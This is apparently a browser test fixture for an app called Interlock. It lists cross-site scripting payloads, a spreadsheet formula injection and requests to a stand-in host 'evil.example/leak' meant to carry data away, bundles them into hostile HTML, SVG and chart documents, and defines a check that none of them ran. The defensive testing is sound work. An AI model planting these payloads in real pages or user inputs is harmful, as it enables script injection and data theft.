// Texts that try to run in the page or to carry something away, and the proof that none did.

import assert from "node:assert/strict";
import { page } from "./browser.js";

const run = "window.hacked=1;top.hacked=1";
const away = "https://evil.example/leak?of=secret";

/** tricks are put wherever a text of somebody else is shown. */
export const tricks = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s>`,
  `"><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `</textarea></title></style><script>${run}</script>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">here</a>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<math><mtext></p><img src onerror="${run}"></mtext></math>`,
  `{{constructor.constructor('${run}')()}} \${${run}} {@html "<img src=x onerror=${run}>"}`,
  `<img src="${away}"><link rel=stylesheet href="${away}"><style>@import url(${away});</style>`,
  `<meta http-equiv=refresh content="0;url=${away}"><base href="${away}">`,
  `<form action="${away}"><input name=x><button autofocus>go</button></form><object data="${away}"></object>`,
  `![pixel](${away}) ![pixel][p]\n\n[p]: ${away}`,
  `[here](javascript:${run}) [there](data:text/html,<script>${run}</script>) <javascript:${run}>`,
  `[x](https://evil.example "a\\" onmouseover=\\"${run}")`,
  `=cmd|' /C calc'!A0`,
  "\u202Egnp.exe \u0000 \uFFFF \u2028",
];

/** hostileHTML is a whole document of tricks. */
export const hostileHTML = `<!doctype html><html><head><base href="${away}"><meta http-equiv="refresh" content="0;url=${away}"><script>${run}</script><script src="${away}"></script><link rel="stylesheet" href="${away}"></head><body onload="${run}"><h1>A report</h1>${tricks.join("\n")}</body></html>`;

/** hostileSVG is a picture of tricks. */
export const hostileSVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30" onload="${run}"><script>${run}</script><image xlink:href="${away}" width="9" height="9"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}"/></foreignObject><text y="20">drawn</text></svg>`;

/** hostileChart is a chart document that wants its rows from elsewhere and runs expressions. */
export const hostileChart = JSON.stringify({ $schema: "https://vega.github.io/schema/vega-lite/v5.json", title: tricks[1], data: { url: away }, transform: [{ calculate: run, as: "x" }], mark: { type: "image", url: away, href: `javascript:${run}` }, encoding: { href: { value: `javascript:${run}` } }, usermeta: { interlock: { result: tricks[0], result_id: "../../../evil.example", chart: { kind: "bar", x: tricks[1], y: [tricks[2]] } } } });

/** nothingRan fails where a trick ran in any frame, or left an element of its own. browser.js fails on requests to other hosts. */
export async function nothingRan(where) {
  await page.mouse.move(400, 300);
  for (const frame of page.frames()) assert.equal(await frame.evaluate(() => globalThis.hacked), undefined, where);
  assert.equal(await page.title(), "Interlock", where);
  const own = await page.evaluate(() => [...document.querySelectorAll("script, base, object, embed, form[action], a[href^='javascript:' i], a[href^='data:' i], [onerror], [onload], [onfocus], [ontoggle], img:not([src^='blob:'], [src='/icon.svg'])")].map((n) => n.outerHTML.slice(0, 120)).filter((h) => !/^<script[^>]* src="\/assets\//.test(h)));
  assert.deepEqual(own, [], where);
}
